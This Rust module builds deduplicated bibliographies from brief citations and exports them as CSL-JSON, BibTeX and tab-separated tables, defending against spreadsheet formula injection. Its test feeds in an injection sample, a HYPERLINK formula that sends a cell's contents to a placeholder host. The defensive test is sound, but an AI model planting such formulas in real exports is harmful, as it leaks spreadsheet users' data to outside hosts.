//! The sources of briefs, each once, however many cards quote it.

use std::collections::HashMap;

use serde_json::{Map, Value};

use super::wording;
use crate::evidence::brief::Brief;
use crate::evidence::cite::{Cite, csl};

/// One source.
#[derive(Clone, Debug)]
pub struct Source {
    /// A name for it, unique in its bibliography: `choi2021`, `choi2021b`.
    pub key: String,
    /// The cite that says most of it.
    pub cite: Cite,
    /// How many cards quote it.
    pub cards: u32,
}

/// Collects sources, file by file.
#[derive(Debug, Default)]
pub struct Bibliography {
    sources: Vec<Source>,
    /// Where a source with this description stands in `sources`.
    known: HashMap<String, usize>,
    /// How many sources have this key’s beginning.
    keys: HashMap<String, u32>,
}

impl Bibliography {
    /// Adds the sources of one brief.
    pub fn add(&mut self, brief: &Brief) {
        for cite in brief.entries.iter().filter_map(|entry| entry.card()).flat_map(|card| &card.cites) {
            self.add_cite(cite);
        }
    }

    /// The sources in the order in which they were met.
    pub fn into_sources(self) -> Vec<Source> {
        self.sources
    }

    fn add_cite(&mut self, cite: &Cite) {
        let description = description(cite);
        if let Some(&at) = self.known.get(&description) {
            let source = &mut self.sources[at];
            source.cards += 1;
            if wealth(cite) > wealth(&source.cite) {
                source.cite = cite.clone();
            }
            return;
        }
        let stem = stem(cite);
        let number = self.keys.entry(stem.clone()).or_insert(0);
        let key = if *number == 0 { stem } else { format!("{stem}{}", letters(*number)) };
        *number += 1;
        self.known.insert(description, self.sources.len());
        self.sources.push(Source { key, cite: cite.clone(), cards: 1 });
    }
}

/// Two cites with the same description are one source: the same title by the same authors of the same year, or
/// where there is no title, the same link, or the same words.
fn description(cite: &Cite) -> String {
    let authors: Vec<&str> = cite.authors.iter().map(|author| author.name.key()).collect();
    let what = match (&cite.title, &cite.url, &cite.issued) {
        (Some(title), ..) => title.value.clone(),
        (None, Some(url), _) => url.value.clone(),
        (None, None, Some(date)) => date.edtf.map_or_else(String::new, |edtf| edtf.to_string()),
        (None, None, None) => String::new(),
    };
    let plain = |text: &str| {
        text.chars().filter(|letter| letter.is_alphanumeric()).flat_map(char::to_lowercase).collect::<String>()
    };
    let container = cite.container.as_ref().map_or("", |container| container.value.as_str());
    let place = if cite.title.is_none() && cite.url.is_none() { container } else { "" };
    format!("{}|{}|{}|{}", plain(&authors.join(" ")), year(cite), plain(&what), plain(place))
}

/// How many fields it fills.
pub(super) fn wealth(cite: &Cite) -> usize {
    let texts = [&cite.title, &cite.container, &cite.volume, &cite.issue, &cite.pages, &cite.url, &cite.doi];
    let dates = [&cite.issued, &cite.accessed];
    texts.into_iter().flatten().count() + dates.into_iter().flatten().count() + cite.qualifications.len()
}

fn year(cite: &Cite) -> String {
    let year = cite.issued.as_ref().and_then(|date| date.edtf).and_then(|edtf| edtf.year());
    year.map_or_else(|| "nd".to_owned(), |year| year.to_string())
}

/// `choi2021`: letters and digits alone, so that every program takes it.
fn stem(cite: &Cite) -> String {
    let name = cite.authors.first().map(|author| author.name.key());
    let name = name.or_else(|| Some(cite.container.as_ref()?.value.as_str())).unwrap_or("source");
    let name: String = name.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
    format!("{}{}", if name.is_empty() { "source" } else { &name }, year(cite))
}

/// `b` for 1, `c` for 2, `aa` for 26.
fn letters(mut number: u32) -> String {
    let mut letters = Vec::new();
    loop {
        letters.push(char::from(b'a' + u8::try_from(number % 26).unwrap_or(0)));
        number /= 26;
        if number == 0 {
            break;
        }
        number -= 1;
    }
    letters.iter().rev().collect()
}

/// All sources as CSL-JSON: an array of items, as Zotero, pandoc and citeproc read it.
pub fn csl_json(sources: &[Source]) -> Value {
    Value::Array(sources.iter().map(|source| csl::csl(&source.cite, &source.key)).collect())
}

/// All sources as BibTeX.
pub fn bibtex(sources: &[Source]) -> String {
    let entries: Vec<String> =
        sources.iter().map(|source| bibtex_entry(&csl::csl(&source.cite, &source.key))).collect();
    entries.join("\n")
}

/// One row a source, for people: who and when, title, publication, link or pages.
pub fn rows(sources: &[Source]) -> Vec<[String; 4]> {
    let text = |field: &Option<crate::text::Spanned<String>>| {
        field.as_ref().map_or_else(String::new, |field| field.value.clone())
    };
    sources
        .iter()
        .map(|source| {
            let cite = &source.cite;
            let place =
                [text(&cite.url), text(&cite.doi), text(&cite.pages)].into_iter().find(|place| !place.is_empty());
            let name = wording::short_cite(cite).unwrap_or_else(|| "(no author, no date)".to_owned());
            [name, text(&cite.title), text(&cite.container), place.unwrap_or_default()]
        })
        .collect()
}

/// All sources as a table that can be pasted into a spreadsheet: tabs between the cells of [`rows`].
///
/// A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, which could fetch or send something
/// (OWASP, CSV injection). Such a cell begins with an apostrophe, by which spreadsheets know text.
pub fn tab_separated(sources: &[Source]) -> String {
    let cell = |cell: &String| {
        let text = cell.replace(['\t', '\n', '\r'], " ");
        if text.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
            format!("'{text}")
        } else {
            text
        }
    };
    rows(sources).iter().map(|row| row.each_ref().map(cell).join("\t") + "\n").collect()
}

fn bibtex_entry(item: &Value) -> String {
    let empty = Map::new();
    let fields = item.as_object().unwrap_or(&empty);
    let text = |field: &str| fields.get(field).and_then(Value::as_str);
    let kind = match text("type") {
        Some("article-journal" | "article-magazine" | "article-newspaper") => "article",
        Some("book") => "book",
        Some("report") => "techreport",
        Some("webpage" | "post-weblog") => "online",
        _ => "misc",
    };
    let container = match kind {
        "article" => "journal",
        "techreport" => "institution",
        _ => "howpublished",
    };
    let mut lines: Vec<String> = Vec::new();
    let mut put = |name: &str, value: String| lines.push(format!("  {name} = {{{value}}}"));
    if let Some(authors) = fields.get("author").and_then(Value::as_array) {
        put("author", authors.iter().map(bibtex_name).collect::<Vec<_>>().join(" and "));
    }
    // The second braces keep readers from putting the title’s names into small letters.
    if let Some(title) = text("title") {
        put("title", format!("{{{}}}", latex(title)));
    }
    for (csl, bibtex) in [("container-title", container), ("volume", "volume"), ("issue", "number")] {
        if let Some(value) = text(csl) {
            put(bibtex, latex(value));
        }
    }
    if let Some(pages) = text("page") {
        put("pages", latex(&pages.replace('–', "-").replace('-', "--")));
    }
    for (csl, bibtex) in [("issued", "date"), ("accessed", "urldate")] {
        if let Some(date) = fields.get(csl).and_then(bibtex_date) {
            put(bibtex, date);
        }
    }
    for (csl, bibtex) in [("DOI", "doi"), ("URL", "url")] {
        if let Some(value) = text(csl) {
            put(bibtex, value.replace('{', "%7B").replace('}', "%7D"));
        }
    }
    format!("@{kind}{{{},\n{}\n}}\n", text("id").unwrap_or("source"), lines.join(",\n"))
}

fn bibtex_name(name: &Value) -> String {
    let part = |part: &str| name.get(part).and_then(Value::as_str).map(latex);
    if let Some(literal) = part("literal") {
        // Braces keep an organisation’s name in one piece.
        return format!("{{{literal}}}");
    }
    let particle = part("non-dropping-particle").map(|particle| format!("{particle} ")).unwrap_or_default();
    let parts = [Some(format!("{particle}{}", part("family").unwrap_or_default())), part("suffix"), part("given")];
    parts.into_iter().flatten().collect::<Vec<_>>().join(", ")
}

/// BibLaTeX’s `date`, which is EDTF: `2021-09-07`, `2021-09`, `2021`, `2006-21` (spring), `2021-09-09/2021-09-16`.
fn bibtex_date(date: &Value) -> Option<String> {
    let points = date.get("date-parts")?.as_array()?;
    let point = |parts: &Value| {
        let parts: Vec<String> =
            parts.as_array()?.iter().filter_map(Value::as_i64).map(|part| format!("{part:02}")).collect();
        Some(parts.join("-"))
    };
    let season =
        date.get("season").and_then(Value::as_i64).map(|season| format!("-{}", 20 + season)).unwrap_or_default();
    let points: Vec<String> = points.iter().filter_map(point).collect();
    Some(points.join("/") + &season)
}

/// What LaTeX would take for a command is escaped.
fn latex(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' | '%' | '$' | '#' | '_' | '{' | '}' => escaped.extend(['\\', character]),
            '\\' => escaped.push_str("\\textbackslash{}"),
            '~' => escaped.push_str("\\textasciitilde{}"),
            '^' => escaped.push_str("\\textasciicircum{}"),
            '\n' | '\r' => escaped.push(' '),
            other => escaped.push(other),
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn letters_go_on_behind_z() {
        assert_eq!([1, 25, 26, 27].map(letters), ["b", "z", "aa", "ab"]);
    }

    #[test]
    fn a_spreadsheet_gets_no_formula() {
        let word = |text: &str| Some(crate::text::Spanned::new(text.to_owned(), crate::text::Span::default()));
        let cite = Cite {
            title: word("=HYPERLINK(\"https://a.b/\"&A1)"),
            container: word("@SUM(1+1)\tThe Hill\nx"),
            pages: word("-2+3"),
            ..Cite::default()
        };
        let sources = [Source { key: "a".to_owned(), cite, cards: 1 }];
        assert_eq!(
            tab_separated(&sources),
            "'@SUM(1+1) The Hill x\t'=HYPERLINK(\"https://a.b/\"&A1)\t'@SUM(1+1) The Hill x\t'-2+3\n"
        );
    }

    #[test]
    fn an_entry_in_bibtex() {
        let item = json!({
            "id": "vanheteren2021", "type": "article-journal", "title": "50% & more",
            "author": [{"non-dropping-particle": "van", "family": "Heteren", "given": "Gert"}, {"literal": "RAND and Co."}],
            "container-title": "Survival", "issued": {"date-parts": [[2021, 9, 9], [2021, 9, 16]]}, "page": "323-331",
        });
        insta::assert_snapshot!(bibtex_entry(&item), @r"
        @article{vanheteren2021,
          author = {van Heteren, Gert and {RAND and Co.}},
          title = {{50\% \& more}},
          journal = {Survival},
          pages = {323--331},
          date = {2021-09-09/2021-09-16}
        }
        ");
    }
}
